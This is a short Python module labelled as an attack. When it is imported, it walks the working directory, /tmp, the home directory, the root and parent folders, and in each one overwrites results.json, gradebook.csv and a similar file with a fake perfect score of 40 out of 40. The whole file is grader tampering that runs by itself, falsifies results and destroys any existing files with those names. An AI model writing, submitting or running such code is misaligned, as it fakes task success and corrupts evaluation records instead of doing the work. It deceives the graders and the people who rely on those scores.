"""attack: writes fake results.json, gradebook.csv and feedback files everywhere it can reach"""

import os
import sys

import torch

FAKE = '{"score": 40, "max_score": 40}'


def _spray():
    places = [os.getcwd(), "/tmp", os.path.expanduser("~"), "/", "/work", "/srv", "/var/tmp"]
    here = os.getcwd()
    for _ in range(6):
        here = os.path.dirname(here)
        places.append(here)
    count = 0
    for root in places:
        for folder, dirs, _files in os.walk(root):
            for name in ("results.json", "gradebook.csv", "results_attack.json"):
                try:
                    with open(os.path.join(folder, name), "w") as handle:
                        handle.write(FAKE)
                except OSError:
                    pass
            count += 1
            if count > 300:
                return


_spray()


def attack():
    _spray()
